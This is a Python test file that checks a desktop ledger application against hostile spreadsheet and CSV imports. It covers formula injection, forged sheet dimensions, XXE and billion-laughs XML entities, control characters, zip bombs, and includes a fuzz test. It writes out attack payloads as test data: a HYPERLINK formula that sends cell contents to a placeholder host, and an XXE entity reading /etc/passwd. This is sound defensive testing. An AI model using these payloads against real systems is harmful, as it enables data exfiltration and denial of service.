"""Issue 14, attacks 7 and 8: ledgers as a hostile file would be — formulas, forged sizes, XML entities,
control characters — and a fuzz of the readers (R-LED-01)."""

from __future__ import annotations

import contextlib
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from teiretsu_desktop.domain.errors import InvalidInput
from teiretsu_desktop.security.session import StaffSession
from teiretsu_desktop.services import persons
from teiretsu_desktop.services.ledger import files
from teiretsu_desktop.services.ledger.columns import COLUMNS
from teiretsu_desktop.services.ledger.export import export_ledger
from teiretsu_desktop.services.ledger.files import write_template
from teiretsu_desktop.services.ledger.importer import import_ledger
from teiretsu_desktop.services.ledger.mapping import read_ledger
from tests.helpers.casework import new_case, new_person
from tests.helpers.files import mutate
from tests.helpers.stores import TemplateStore, copy_store, unlock_admin

FORMULA = '=HYPERLINK("http://example.invalid/?"&A2&B2,"詳細")'


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _with_sheet_xml(source: Path, target: Path, xml: str) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = xml.encode("utf-8") if item.filename == "xl/worksheets/sheet1.xml" else old.read(item)
            new.writestr(item, data)
    return target


def test_7_exported_formulas_stay_text_and_come_back_unchanged(
    admin: StaffSession, store: TemplateStore, tmp_path: Path
) -> None:
    """Attack 7: a name like =HYPERLINK(…) became a live formula in the xlsx; CSV cells starting with
    = + - @ were written unchanged."""
    pid = new_person(admin, family=FORMULA, given="@SUM(1+1)")
    new_case(admin, pid)
    xlsx, csv_path = tmp_path / "l.xlsx", tmp_path / "l.csv"
    export_ledger(admin, xlsx, password=None)
    export_ledger(admin, csv_path, password=None)
    sheet = load_workbook(xlsx)["台帳"]  # not data_only: a formula would show as one
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" for c in cells)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    flat = [v for row in rows for v in row]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in flat)
    assert "'" + FORMULA in " ".join(flat)
    other = copy_store(store, tmp_path / "other")
    session = unlock_admin(other.data_dir)
    try:
        import_ledger(session, csv_path)
        hits = persons.search_persons(session, "HYPERLINK")
        assert hits and hits[0].name.startswith(FORMULA)
    finally:
        session.lock()


def test_8_a_forged_sheet_size_is_ignored(tmp_path: Path) -> None:
    """Attack 8: a 5 KB xlsx declaring a huge dimension took ~4 GB and ended in MemoryError."""
    template = tmp_path / "t.xlsx"
    write_template(template)
    xml = _sheet_xml(template)
    forged = re.sub(r'<dimension ref="[^"]*" />', '<dimension ref="A1:XFD1048576" />', xml)
    assert forged != xml
    bad = _with_sheet_xml(template, tmp_path / "forged.xlsx", forged)
    assert bad.stat().st_size < 50_000
    (sheet,) = read_ledger(bad).sheets
    assert sheet.header[0] == COLUMNS[0].header and sheet.rows == []
    far = forged.replace(
        "</sheetData>",
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    )
    with pytest.raises(InvalidInput, match="行が多すぎます"):
        read_ledger(_with_sheet_xml(template, tmp_path / "far.xlsx", far))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    ],
)
def test_8_xml_entities_are_refused_with_a_message(tmp_path: Path, doctype: str) -> None:
    """Attack 8: XXE and billion-laughs xlsx ended in "unexpected error (ParseError)"."""
    template = tmp_path / "t.xlsx"
    write_template(template)
    xml = _sheet_xml(template)
    hostile = _with_sheet_xml(template, tmp_path / "hostile.xlsx", doctype + xml)
    with pytest.raises(InvalidInput, match="Excelファイルとして読めません"):
        read_ledger(hostile)


def test_8_control_characters_and_zip_bombs_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack 8: a NUL byte was stored; an xlsx that unpacks huge is refused before it is unpacked."""
    nul = tmp_path / "nul.csv"
    nul.write_text("氏名,生年月日\n山田\x00太郎,1950-01-01\n", encoding="utf-8-sig")
    with pytest.raises(InvalidInput, match="制御文字"):
        read_ledger(nul)
    template = tmp_path / "t.xlsx"
    write_template(template)
    monkeypatch.setattr(files, "MAX_UNPACKED", 1024)
    with pytest.raises(InvalidInput, match="大きすぎます"):
        read_ledger(template)


@pytest.fixture(scope="module")
def good_ledgers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("ledgers")
    template = folder / "t.xlsx"
    write_template(template)
    header = ",".join(c.header for c in COLUMNS)
    return {
        ".xlsx": template.read_bytes(),
        ".csv": ("\ufeff" + header + "\n" + "山田,太郎\n").encode("utf-8"),
        ".txt": (header.replace(",", "\t") + "\r\n" + "山田\t太郎\r\n").encode("utf-16"),
        ".tsv": (header + "\n" + "山田,太郎\n").encode("cp932"),
    }


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])  # examples: the profile
@given(data=st.data())
def test_fuzzed_ledgers_raise_only_the_importers_error(
    good_ledgers: dict[str, bytes], tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    """R-LED-01: whatever the bytes, the readers return a table or raise InvalidInput — nothing else."""
    suffix = data.draw(st.sampled_from([".xlsx", ".csv", ".txt", ".tsv"]))
    path = tmp_path_factory.mktemp("fuzz") / f"ledger{suffix}"
    path.write_bytes(mutate(bytearray(good_ledgers[suffix]), data))
    with contextlib.suppress(InvalidInput):
        read_ledger(path)
